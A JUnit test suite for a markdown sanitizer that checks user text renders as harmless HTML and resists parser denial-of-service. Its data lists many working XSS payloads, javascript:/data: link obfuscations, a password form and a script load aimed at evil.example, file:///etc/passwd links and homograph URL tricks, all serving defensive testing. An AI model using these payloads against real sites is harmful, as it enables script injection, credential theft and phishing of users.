package app.waymark.shared.markdown;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.net.URI;
import java.time.Duration;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What somebody may write who means harm: it is shown as text, in no time, whatever it is. */
class HostileTextTest {

    private static final Set<String> SHOWN =
            Set.of("p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "pre", "code", "a", "span");

    private static final Set<String> SAID = Set.of(
            "p dir", "li dir", "pre dir", "ol start", "span class", "a href", "a target", "a rel", "a router-ignore");

    static Stream<String> texts() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<a href=\"javascript:alert(1)\">press</a>",
                "<div style=\"position:fixed;inset:0\">over all</div>",
                "<style>*{display:none}</style>",
                "<base href=https://evil.example>",
                "<form action=https://evil.example><input name=password></form>",
                "<meta http-equiv=refresh content=0;url=https://evil.example>",
                "<details open ontoggle=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<!-- --!><script>alert(1)</script>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?><script>alert(1)</script>",
                "[press](javascript:alert(1))",
                "[press](JaVaScRiPt:alert(1))",
                "[press]( javascript:alert(1))",
                "[press](java\tscript:alert(1))",
                "[press](java\nscript:alert(1))",
                "[press](java\u0000script:alert(1))",
                "[press](\u0001javascript:alert(1))",
                "[press](&#106;avascript:alert(1))",
                "[press](&#x6A;&#x61;vascript&colon;alert(1))",
                "[press](javascript&Tab;:alert(1))",
                "[press](java\u200bscript:alert(1))",
                "[press](vbscript:msgbox(1))",
                "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[press](data:image/svg+xml,<svg onload=alert(1)>)",
                "[press](file:///etc/passwd)",
                "[press](blob:https://example.org/1)",
                "[press](about:blank)",
                "[press](view-source:https://example.org)",
                "[press](tel:+491234)",
                "[press](//evil.example/x)",
                "[press](\\\\evil.example\\x)",
                "[press](/\\evil.example)",
                "[press](https:evil.example)",
                "[press](https:///evil.example)",
                "[press](https://evil.example\\@bank.example)",
                "[press](https://bank.example@evil.example/)",
                "[press](https://bank.example%2f@evil.example/)",
                "[press](https://[::1]:8080/)",
                "[press](https://evil.example\" onmouseover=\"alert(1))",
                "[press](<https://evil.example\" onmouseover=\"alert(1)>)",
                "[press](https://evil.example 'a\" onmouseover=\"alert(1)')",
                "[press](https://evil.example \"</a><script>alert(1)</script>\")",
                "[a](javascript:alert(1) \"t\")\n[b]: javascript:alert(1)",
                "[press][1]\n\n[1]: javascript:alert(1)",
                "![](javascript:alert(1))",
                "![x](https://evil.example/pixel.png)",
                "![x](data:image/png;base64,AAAA)",
                "[![x](https://evil.example/a.png)](javascript:alert(1))",
                "<javascript:alert(1)>",
                "<data:text/html,x>",
                "<https://evil.example/\"onmouseover=alert(1)>",
                "https://evil.example/\"onmouseover=\"alert(1)",
                "https://evil.example/<script>alert(1)</script>",
                "https://evil.example/`onclick=alert(1)`",
                "javascript:alert(1) //https://example.org",
                "```\" onmouseover=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
                "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```",
                "`</code><script>alert(1)</script>`",
                "**<b onmouseover=alert(1)>bold**",
                "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
                "1. <svg/onload=alert(1)>\n2. [x](javascript:alert(1))",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "\u003cscript\u003ealert(1)",
                "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
                "\u202egnp.exe https://evil.example/\u202etxt.exe",
                "<p dir=rtl>\u202e\u2066evil\u2069</p>",
                "\ud800 a half letter \udc00",
                "mailto:a@b.example?body=x [m](mailto:a@b.example?subject=x&body=<script>)",
                "<a@b.example>",
                "[x](/goals/1\"onclick=alert(1))",
                "[x](/../../../etc)",
                "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7}",
                "[<script>alert(1)</script>](https://evil.example)",
                "[*<img src=x onerror=alert(1)>*](https://evil.example)",
                "\\<script>alert(1)\\</script>",
                "a\u0000<script\u0000>alert(1)</script>");
    }

    @ParameterizedTest
    @MethodSource("texts")
    void is_shown_as_words_and_nothing_in_it_does_anything(String text) {
        for (var format : TextFormat.values()) {
            harmless(format.html(text));
            harmless(format.html("> " + text));
            harmless(format.html("- **" + text + "**"));
            assertThat(format.words(text)).isNotNull();
            assertThat(format.excerpt(text, 140).length()).isLessThanOrEqualTo(140);
        }
    }

    static Stream<String> heaps() {
        return Stream.of(
                        "[",
                        "]",
                        "(",
                        "![",
                        "[]",
                        "[](",
                        "[a](",
                        "*",
                        "**a ",
                        "*a_b",
                        "_",
                        "> ",
                        ">",
                        "- ",
                        "1. ",
                        "`",
                        "```\n",
                        "~~~\n",
                        "<",
                        "<a ",
                        "&",
                        "&#",
                        "\\",
                        "h",
                        "http://",
                        "https://a",
                        "https://a(",
                        "https://x.org/)",
                        "\n",
                        "\n> - ",
                        " ",
                        "\t",
                        "a\n",
                        "*_",
                        "[*",
                        "<!--",
                        "\"",
                        "\u202e",
                        "\ud83d\ude00",
                        "a**b")
                .flatMap(sign -> Stream.of(5_000, 100_000).map(length -> heap(sign, length)));
    }

    private static String heap(String sign, int length) {
        return sign.repeat(length / sign.length());
    }

    @ParameterizedTest
    @MethodSource("heaps")
    void a_heap_of_one_sign_takes_no_time(String heap) {
        assertTimeoutPreemptively(Duration.ofSeconds(3), () -> {
            harmless(TextFormat.MARKDOWN.html(heap));
            TextFormat.MARKDOWN.words(heap);
            TextFormat.MARKDOWN.quoted(heap, "Jonas", "/goals/1");
        });
    }

    /** The heaps take a thread of their own with a small stack: one of a web server has no more. */
    @Test
    void no_depth_of_nesting_is_too_deep() throws InterruptedException {
        var nested = Stream.of(
                        "> ".repeat(2_500),
                        "- ".repeat(2_500),
                        "*a **b ".repeat(700),
                        "[".repeat(2_500) + "a" + "](x)".repeat(600),
                        "_*".repeat(2_500) + "a" + "*_".repeat(2_500),
                        "> - 1. ".repeat(700))
                .toList();
        var failed = new Throwable[1];
        var thread = new Thread(
                null, () -> nested.forEach(text -> harmless(TextFormat.MARKDOWN.html(text))), "", 256 * 1024);
        thread.setUncaughtExceptionHandler((one, thrown) -> failed[0] = thrown);
        thread.start();
        thread.join();
        assertThat(failed[0]).isNull();
    }

    @Test
    void pieces_of_all_of_them_at_random_are_harmless() {
        var random = new Random(4);
        var pieces = texts().flatMap(text -> Stream.of(text.split("(?<=[\\s>)\\]])")))
                .toList();
        for (int round = 0; round < 1_000; round++) {
            var text = random.ints(random.nextInt(1, 12), 0, pieces.size())
                    .mapToObj(pieces::get)
                    .collect(Collectors.joining(random.nextBoolean() ? "" : "\n"));
            harmless(TextFormat.MARKDOWN.html(text));
            harmless(TextFormat.PLAIN.html(text));
        }
    }

    private static void harmless(String html) {
        var body = Jsoup.parseBodyFragment(html).body();
        for (var element : body.getAllElements()) {
            if (element != body) {
                assertThat(SHOWN).as(() -> html).contains(element.tagName());
                element.attributes()
                        .forEach(said ->
                                assertThat(SAID).as(() -> html).contains(element.tagName() + " " + said.getKey()));
                if (element.tagName().equals("a")) {
                    leadsSomewhereSafe(element, html);
                }
            }
        }
    }

    private static void leadsSomewhereSafe(Element link, String html) {
        var href = link.attr("href").toLowerCase(Locale.ROOT);
        assertThat(href).as(() -> html).matches("https?://[^/].*|mailto:[^?]+|/[a-z0-9].*");
        if (href.startsWith("http")) {
            assertThat(link.attr("rel")).contains("noopener").contains("nofollow");
            assertThat(href).doesNotContain("\\");
        }
    }

    @Test
    void the_host_that_a_link_leads_to_stands_beside_words_that_name_another() {
        assertThat(beside("[our plan](https://example.org/plan)")).isEqualTo("example.org");
        assertThat(beside("[https://bank.example](https://evil.example/x)")).isEqualTo("evil.example");
        assertThat(beside("[press](https://bank.example@evil.example/)")).isEqualTo("evil.example");
        assertThat(beside("https://bank.example@evil.example/")).isEqualTo("evil.example");
        assertThat(beside("[bank.example.evil.example](https://bank.example)")).isEqualTo("bank.example");
        assertThat(beside("[x](https://www.example.org:8443/)")).isEqualTo("example.org");
    }

    @Test
    void a_host_in_letters_that_look_like_others_is_shown_as_what_it_is() {
        assertThat(beside("https://\u0430\u0440\u0440\u04cf\u0435.example")).isEqualTo("xn--80ak6aa92e.example");
        assertThat(beside("[x](https://xn--80ak6aa92e.example)")).isEqualTo("xn--80ak6aa92e.example");
        assertThat(beside("[x](https://m\u00fcller.example)")).isEqualTo("m\u00fcller.example");
        assertThat(beside("[x](https://xn--mller-kva.example)")).isEqualTo("m\u00fcller.example");
    }

    @Test
    void an_address_that_says_itself_where_it_leads_stands_alone() {
        for (var text : Set.of(
                "https://example.org/a_b_c?d=*e*",
                "[example.org](https://example.org/plan)",
                "[https://www.example.org/x](https://example.org/x)",
                "[Jonas](/goals/1?thread=2)")) {
            assertThat(TextFormat.MARKDOWN.html(text)).as(text).contains("<a ").doesNotContain("wm-host");
        }
        assertThat(URI.create(Jsoup.parseBodyFragment(TextFormat.MARKDOWN.html("(see https://example.org/a_b_c.)"))
                        .select("a")
                        .attr("href")))
                .isEqualTo(URI.create("https://example.org/a_b_c"));
    }

    private static String beside(String text) {
        return Jsoup.parseBodyFragment(TextFormat.MARKDOWN.html(text))
                .select("a .wm-host")
                .text()
                .replaceAll("[\\s\u00a0]*↗$", "");
    }
}
